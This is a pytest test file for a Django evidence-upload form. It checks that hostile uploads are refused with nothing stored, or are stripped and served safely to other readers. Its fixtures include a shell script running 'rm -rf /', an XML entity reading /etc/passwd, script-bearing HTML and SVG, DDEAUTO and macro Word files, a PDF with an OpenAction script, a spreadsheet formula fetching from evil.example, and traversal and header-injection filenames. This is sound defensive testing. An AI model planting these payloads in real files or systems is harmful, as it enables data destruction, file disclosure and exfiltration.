"""Hostile files through the evidence form: refused with nothing stored, or harmless for others.

tests/attachments looks at the same files without the web around them.
"""

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from django.urls import reverse

from recommendations.attachments.shapes import MEGABYTE
from recommendations.models import Contribution, LogEntry, Person, Revision, StoredFile
from tests.answers import body
from tests.attachments.attachment_samples import (
    HONEST,
    SECRET,
    changed,
    docx_body,
    docx_file,
    docx_related,
    jpeg,
    jpeg_with_position,
    odt_file,
    pdf_changed,
    pdf_file,
    png,
    png_chunk,
    png_with,
    replaced,
    xlsx_file,
    zipped,
)
from tests.factories import RecommendationFactory

pytestmark = pytest.mark.django_db
PAGE = b"<!DOCTYPE html><html><script>evil()</script></html>"
ZIP = zipped({"evil.exe": b"MZ\x90\x00evil"})
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ENTITIES = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
MACROS = replaced(
    docx_file(), "[Content_Types].xml", "wordprocessingml.document.main", "macroEnabled.main"
)


def _huge_png() -> bytes:
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    parts = (
        png_chunk(b"IHDR", header),
        png_chunk(b"IDAT", zlib.compress(bytes(1000))),
        png_chunk(b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


# What it is → the name it comes under, and its bytes.
REFUSED: dict[str, tuple[str, bytes]] = {
    "nothing": ("report.pdf", b""),
    "zero bytes only": ("report.pdf", bytes(4096)),
    "over-size": ("report.txt", b"x" * (20 * MEGABYTE + 1)),
    "web page as PDF": ("report.pdf", PAGE),
    "web page as text": ("report.txt", b"\n\n  " + PAGE),
    "web page in another encoding": ("report.txt", PAGE.decode().encode("utf-16")),
    "script after honest words": ("report.txt", b"Dear all,\n<script>evil()</script>"),
    "web page as mail": ("report.txt", b"From: <x>\nMIME-Version: 1.0\n\n<b>"),
    "drawing with script": (
        "map.png",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="evil()"/>',
    ),
    "style sheet": ("a.txt", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
    "PDF as web page": ("report.html", HONEST["pdf"]),
    "program as PDF": ("report.pdf", b"MZ\x90\x00" + bytes(200)),
    "double extension": ("report.pdf.exe", HONEST["pdf"]),
    "right-to-left name": ("report\u202efdp.exe", HONEST["pdf"]),
    "shell script": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "picture and archive": ("a.png", b"GIF89a" + bytes(40) + ZIP),
    "old office file": ("a.docx", OLD + bytes(600)),
    "office file with password": ("a.docx", OLD + "EncryptedPackage".encode("utf-16-le")),
    "archive": ("a.docx", ZIP),
    "binary as table": ("a.csv", b"text\x00\x01\x02"),
    "picture bomb": ("a.png", _huge_png()),
    "picture cut off": ("a.jpg", jpeg()[:-200]),
    "PDF behind a picture": ("a.pdf", b"GIF89a" + bytes(100) + HONEST["pdf"]),
    "PDF behind a web page": ("a.pdf", PAGE + HONEST["pdf"]),
    "PDF with password": (
        "a.pdf",
        pdf_changed(lambda pdf: None, encryption=pikepdf.Encryption(user="a", owner="b")),
    ),
    "PDF without pages": ("a.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"),
    "zip bomb": ("a.docx", changed(HONEST["docx"], {"word/media/a.xml": bytes(30 * MEGABYTE)})),
    "path out of the archive": ("a.docx", changed(HONEST["docx"], {"../../evil.sh": b"x"})),
    "names that differ in case": ("a.docx", changed(HONEST["docx"], {"word/Document.XML": b"x"})),
    "macros": ("a.docx", MACROS),
    "macros by another name": ("a.docm", MACROS),
    "macro part": ("a.docx", changed(docx_file(), {"word/vbaProject.bin": OLD})),
    "entity that reads a file": ("a.docx", changed(docx_file(), {"word/styles.xml": ENTITIES})),
    "entity in an ODT": ("a.odt", odt_file(parts={"content.xml": ENTITIES})),
}


def _opens_with_script(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("evil()"))
    pdf.Root["/OpenAction"] = script
    pdf.attachments["evil.xlsx"] = b"evil"


def _field(program: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO '
        f'{program}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


OLE = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
    ' r:id="rIdX"/></w:object></w:r></w:p>'
)
COMMENT = b"\xff\xfe" + struct.pack(">H", len(PAGE) + 2) + PAGE
TAKEN: dict[str, tuple[str, bytes]] = {
    "path in the name": ("../../../etc/cron.d/evil.pdf", HONEST["pdf"]),
    "path of another system": ("C:\\Users\\Anna Petrova\\evil.pdf", HONEST["pdf"]),
    "header in the name": ('a"\r\nX-Evil: evil; filename="b.pdf', HONEST["pdf"]),
    "photograph with position": ("Anna Petrova.jpg", jpeg_with_position()),
    "picture with an archive behind it": ("evil.png", png() + ZIP),
    "picture with a web page behind it": ("evil.jpg", jpeg() + PAGE),
    "picture with a web page inside": ("evil.jpg", jpeg()[:2] + COMMENT + jpeg()[2:]),
    "picture with a note": ("a.png", png_with(png_chunk(b"tEXt", b"Author\x00Anna Petrova"))),
    "PDF with its author": ("Anna Petrova.pdf", pdf_file()),
    "PDF with script and attachment": ("evil.pdf", pdf_changed(_opens_with_script)),
    "PDF with an archive behind it": ("evil.pdf", HONEST["pdf"] + ZIP),
    "Word file with its author": ("Anna Petrova.docx", docx_file()),
    "Word file that starts a program": ("a.docx", docx_body(_field("evil.exe"))),
    "Word file with an object": (
        "a.docx",
        changed(
            docx_related("oleObject", "embeddings/o.bin", external=False, xml=OLE),
            {"word/embeddings/o.bin": b"MZ evil"},
        ),
    ),
    "Word file with a part nobody refers to": ("a.docx", changed(docx_file(), {"x.bin": b"evil"})),
    "workbook that fetches": (
        "Anna Petrova.xlsx",
        xlsx_file('<c r="A1"><f>WEBSERVICE("https://evil.example")</f><v>1</v></c>'),
    ),
    "ODT that fetches": (
        "Anna Petrova.odt",
        odt_file('<draw:frame><draw:image xlink:href="https://evil.example"/></draw:frame>'),
    ),
}
SERVED = {
    "X-Content-Type-Options": "nosniff",
    "Content-Security-Policy": "sandbox; default-src 'none'",
    "Cache-Control": "private, no-store",
    "Cross-Origin-Resource-Policy": "same-origin",
}


@pytest.fixture(autouse=True)
def store(settings: Any, tmp_path: Path) -> Path:
    """A file store of its own for each test."""
    settings.MEDIA_ROOT = tmp_path / "files"
    return tmp_path / "files"


def give(person: Person, name: str, content: bytes) -> Any:
    """The answer to evidence with that file, complete and to be submitted."""
    client = Client()
    client.force_login(person)
    given = {
        "title": "Field notes",
        "text": "What we saw.",
        "evidence_kind": "other",
        "fact_from": "2021-06-01",
        "visibility": "own side",
        "action": "submit",
        "file": SimpleUploadedFile("NAME", content, "application/pdf"),
    }
    # No browser sends such names, but others do; this spelling carries any character through.
    named = f"filename*=UTF-8''{quote(name, safe='')}".encode()
    sent = encode_multipart(BOUNDARY, given).replace(b'filename="NAME"', named)
    path = reverse("evidence_add", args=[RecommendationFactory().pk])
    return client.generic("POST", path, sent, content_type=MULTIPART_CONTENT)


@pytest.mark.parametrize("kind", REFUSED)
def test_refused_with_a_message_and_nothing_kept(
    kind: str, ngo_officer: Person, store: Path
) -> None:
    """The reason stands at the field, what was written in its; no row, no file, no line."""
    answer = give(ngo_officer, *REFUSED[kind])
    assert answer.status_code == 422
    (reason,) = answer.context["form"].errors["file"]
    assert reason.endswith(".")
    assert answer.context["form"]["text"].value() == "What we saw."
    page = body(answer).decode()
    assert "<script>evil" not in page
    assert 'onload="evil' not in page
    rows = [t.objects.count() for t in (Contribution, Revision, StoredFile, LogEntry)]
    assert rows == [0, 0, 0, 0]
    assert [path for path in store.rglob("*") if path.is_file()] == []


@pytest.mark.parametrize("kind", TAKEN)
def test_harmless_for_another_reader(
    kind: str, ngo_officer: Person, other_ngo_reviewer: Person
) -> None:
    """An attachment that cannot run, under a name of ours, without what ran or gave away."""
    answer = give(ngo_officer, *TAKEN[kind])
    assert answer.status_code == 302
    one = Contribution.objects.get()
    assert one.revision is not None
    client = Client()
    client.force_login(other_ngo_reviewer)
    page = body(client.get(reverse("contribution_detail", args=[one.pk]))).decode()
    served = client.get(reverse("file_download", args=[one.pk, 1]))
    file = StoredFile.objects.get()
    assert {name: served[name] for name in SERVED} == SERVED
    assert served["Content-Type"] == file.media_type
    neutral = f"evidence-{file.released_sha256[:8]}.{file.extension}"
    assert served["Content-Disposition"] == f'attachment; filename="{neutral}"'
    # A form's token is chance, and chance spells anything now and then.
    page = re.sub(r'value="\w{64}"', "", page)
    told = [page.encode(), str(served.headers).encode(), *plain(body(served))]
    for secret in (SECRET.encode(), SECRET.encode("utf-16-be"), b"evil", b"GPS", b"Camera of"):
        assert not any(secret in part for part in told), secret
    assert client.get(reverse("file_original", args=[one.pk, 1])).status_code == 404


@pytest.mark.parametrize("kind", TAKEN)
def test_original_is_harmless_for_its_own_people(kind: str, ngo_officer: Person) -> None:
    """As it came, but neither shown by a browser nor under a name that leads elsewhere."""
    name, content = TAKEN[kind]
    assert give(ngo_officer, name, content).status_code == 302
    client = Client()
    client.force_login(ngo_officer)
    served = client.get(reverse("file_original", args=[Contribution.objects.get().pk, 1]))
    assert body(served) == content
    assert {name: served[name] for name in SERVED} == SERVED
    disposition = served["Content-Disposition"]
    assert disposition.startswith("attachment; filename")
    assert not any(sign in disposition for sign in ("/", "\\", "..", "\r", "\n"))
    assert "X-Evil" not in served.headers
    files = list(StoredFile.objects.values_list("original", "released"))
    assert all("evil" not in path.lower() for pair in files for path in pair)


def plain(content: bytes) -> list[bytes]:
    """Every part of a file, unpacked."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return [archive.read(name) for name in archive.namelist()] + [
                name.encode() for name in archive.namelist()
            ]
    if content.startswith(b"%PDF"):
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(content)) as pdf:
            pdf.save(out, qdf=True, static_id=True)
        return [content, out.getvalue()]
    return [content]
